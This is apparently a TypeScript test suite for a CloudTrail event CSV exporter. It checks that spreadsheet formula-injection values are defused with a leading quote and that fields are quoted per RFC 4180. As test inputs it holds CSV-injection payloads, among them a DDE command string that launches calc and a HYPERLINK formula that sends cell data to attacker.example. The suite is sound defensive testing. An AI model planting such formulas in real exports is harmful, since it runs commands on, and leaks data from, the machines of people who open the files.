import * as assert from 'assert';
import { CSV_COLUMNS, csvField, csvHeader, csvRecord, csvRow, defuseFormula } from '../../../src/core/export/csv';
import { parseCsv } from './parse-csv';

describe('export: CSV formula-injection safety (OWASP)', () => {
  const dangerous: [string, string][] = [
    ["=cmd|' /C calc'!A0", "'=cmd|' /C calc'!A0"],
    ['+1', "'+1"],
    ['-1+1', "'-1+1"],
    ['@SUM(1)', "'@SUM(1)"],
    ['\t=1+1', "'\t=1+1"],
    ['\r=1+1', "'\r=1+1"],
    ['\n=1+1', "'\n=1+1"],
    ['\0=1', "'\0=1"],
    ['\uFF1D1+1', "'\uFF1D1+1"],
    ['=HYPERLINK("http://attacker.example/?x="&A1,"click")', '\'=HYPERLINK("http://attacker.example/?x="&A1,"click")'],
  ];
  for (const [input, expected] of dangerous) {
    it(`prefixes ${JSON.stringify(input)} with a single quote`, () => {
      assert.strictEqual(defuseFormula(input), expected);
    });
  }

  it('leaves values that cannot start a formula alone', () => {
    for (const safe of ['', '1-1', 'a=b', "'already quoted", 'aws-cli/2.15.0', ' =not a formula in any spreadsheet', 'ConsoleLogin']) {
      assert.strictEqual(defuseFormula(safe), safe);
    }
  });

  it('quotes every field per RFC 4180: commas, doubled quotes, line breaks kept inside the field', () => {
    assert.strictEqual(csvField('a,b'), '"a,b"');
    assert.strictEqual(csvField('say "hi"'), '"say ""hi"""');
    assert.strictEqual(csvField('line1\r\nline2'), '"line1\r\nline2"');
    assert.strictEqual(csvRow(['x', '']), '"x",""\r\n');
  });

  it('writes a hostile event so that a CSV reader gets back exactly the (defused) values, one column each', () => {
    const event = {
      eventTime: '2026-11-20T10:05:00Z',
      eventName: '=1+2',
      eventSource: 'iam.amazonaws.com',
      awsRegion: 'us-east-1',
      recipientAccountId: '123456789012',
      userIdentity: { type: 'IAMUser', arn: 'arn:aws:iam::123456789012:user/x,"y"', accountId: '123456789012', accessKeyId: 'AKIAEXAMPLE' },
      sourceIPAddress: '@SUM(1)',
      userAgent: "=cmd|' /C calc'!A0",
      errorMessage: 'multi\nline, with "quotes"\r\nand CRLF',
      readOnly: false,
      eventID: 'e-1',
      requestParameters: { userName: '-1+1', nested: { list: [1, 2] } },
      resources: [{ ARN: 'arn:aws:iam::123456789012:user/bob' }],
    };
    const rows = parseCsv(csvHeader() + csvRecord(event));
    assert.strictEqual(rows.length, 2);
    assert.deepStrictEqual(rows[0], CSV_COLUMNS.map((c) => c.header));
    const row = Object.fromEntries(rows[0].map((h, i) => [h, rows[1][i]]));
    assert.strictEqual(rows[1].length, CSV_COLUMNS.length);
    assert.strictEqual(row.eventName, "'=1+2");
    assert.strictEqual(row.sourceIPAddress, "'@SUM(1)");
    assert.strictEqual(row.userAgent, "'=cmd|' /C calc'!A0");
    assert.strictEqual(row.principalArn, 'arn:aws:iam::123456789012:user/x,"y"');
    assert.strictEqual(row.errorMessage, 'multi\nline, with "quotes"\r\nand CRLF');
    assert.strictEqual(row.readOnly, 'false');
    assert.strictEqual(row.identityType, 'IAMUser');
    assert.strictEqual(row.accessKeyId, 'AKIAEXAMPLE');
    assert.deepStrictEqual(JSON.parse(row.requestParameters), event.requestParameters);
    assert.deepStrictEqual(JSON.parse(row.resources), event.resources);
    assert.strictEqual(row.errorCode, '');
    for (const cell of rows[1]) assert.ok(!/^[=+\-@\t\r\n\0]/.test(cell), `unsafe cell ${JSON.stringify(cell)}`);
  });

  it('lists the documented columns in order', () => {
    assert.deepStrictEqual(
      CSV_COLUMNS.map((c) => c.header).slice(0, 16),
      ['eventTime', 'eventName', 'eventSource', 'awsRegion', 'recipientAccountId', 'identityType', 'principalArn', 'principal', 'callerAccountId', 'sessionIssuerArn', 'accessKeyId', 'sourceIPAddress', 'userAgent', 'errorCode', 'errorMessage', 'readOnly'],
    );
  });
});
